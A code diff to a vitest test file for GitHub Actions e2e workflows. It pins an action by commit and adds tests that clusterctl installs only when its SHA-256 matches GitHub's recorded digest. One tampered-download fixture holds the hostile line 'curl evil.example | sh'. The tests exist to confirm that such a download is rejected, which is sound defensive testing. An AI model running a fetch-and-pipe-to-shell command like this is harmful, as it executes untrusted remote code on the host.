@@ -1,5 +1,6 @@
 import { spawnSync } from 'node:child_process';
-import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { createHash } from 'node:crypto';
+import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
@@ -463,13 +464,13 @@ describe.each(WORKFLOWS)('%s is dependable', (file) => {
 });
 
 describe('the two e2e workflows', () => {
-  it('run the same job; only the action reference (./ here, org/deploy@v1 for users) and the module source differ', () => {
+  it('run the same job; only the action reference (./ here, org/deploy pinned by commit for users) and the module source differ', () => {
     const normalise = (file: string) => {
       const job = jobOf(file);
       // ...and where the module comes from: this checkout here, a pinned release for users.
       return JSON.stringify({ ...job, env: { ...job.env, MODULE_SOURCE: 'the module' } }).replaceAll(
         '"uses":"./"',
-        '"uses":"org/deploy@v1"',
+        '"uses":"org/deploy@0123456789abcdef0123456789abcdef01234567"',
       );
     };
     expect(normalise(WORKFLOWS[0]!)).toBe(normalise(WORKFLOWS[1]!));
@@ -533,5 +534,49 @@ describe.each(WORKFLOWS)('%s has a cluster-api leg', (file) => {
     expect(String(job.env?.CLUSTER_NAME)).toMatch(/^capi-\$\{\{ github\.run_id \}\}-\$\{\{ github\.run_attempt \}\}$/);
     expect(stepRuns(destroy, { steps: { config: { outcome: 'success' }, deploy: { outcome: 'failure' } } })).toBe(true);
     expect(stepRuns(destroy, { steps: { config: { outcome: 'skipped' } } })).toBe(false);
+  });
+});
+
+describe.each(WORKFLOWS)('%s: what the e2e downloads and uploads (issue 29)', (file) => {
+  const tools = jobOf(file, 'e2e-cluster-api').steps.find((s) => (s.run ?? '').includes('clusterctl-linux-amd64'))!;
+  const binary = '#!/bin/sh\necho clusterctl-v1.12.10\n';
+  const sha = createHash('sha256').update(binary).digest('hex');
+  /** The step with curl writing `served` and gh reporting `digest` for the release asset. */
+  const run = (served: string, digest: string) => {
+    const fakes = {
+      curl: `while [ $# -gt 0 ]; do if [ "$1" = -o ]; then shift; printf '%s' '${served.replaceAll("'", "'\\''")}' > "$1"; fi; shift; done`,
+      gh: `case "$*" in *releases/tags/v1.12.10*clusterctl-linux-amd64*) echo '${digest}' ;; *) exit 1 ;; esac`,
+      kind: 'echo "kind v0.32.0 go1.25 linux/amd64"',
+    };
+    return runScript(
+      tools.run!,
+      { CAPI_VERSION: 'v1.12.10', KIND_VERSION: 'v0.32.0', GITHUB_PATH: '/dev/null', GH_TOKEN: 'x' },
+      fakes,
+    );
+  };
+
+  it('installs clusterctl only when it matches the SHA-256 GitHub recorded for the release asset', () => {
+    expect(tools.env?.GH_TOKEN).toBe('${{ github.token }}');
+    const ok = run(binary, `sha256:${sha}`);
+    expect(ok.status, ok.output).toBe(0);
+    expect(ok.output).toContain('clusterctl-v1.12.10'); // the installed binary ran
+    ok.cleanup();
+    for (const [what, served, digest] of [
+      ['a tampered download', `${binary}curl evil.example | sh\n`, `sha256:${sha}`],
+      ['no digest for the asset', binary, ''],
+      ['a digest of another algorithm', binary, `sha512:${sha}`],
+    ] as const) {
+      const bad = run(served, digest);
+      expect(bad.status, what).not.toBe(0);
+      expect(existsSync(path.join(bad.dir, 'bin', 'clusterctl')), what).toBe(false);
+      bad.cleanup();
+    }
+  });
+
+  it("uploads the action's redacted logs, never a raw tool log written past the redactor", () => {
+    for (const name of ['e2e', 'e2e-cluster-api'] as const) {
+      const job = jobOf(file, name);
+      expect(JSON.stringify(job), name).not.toMatch(/ANSIBLE_LOG_PATH|ansible\.log/);
+    }
   });
 });
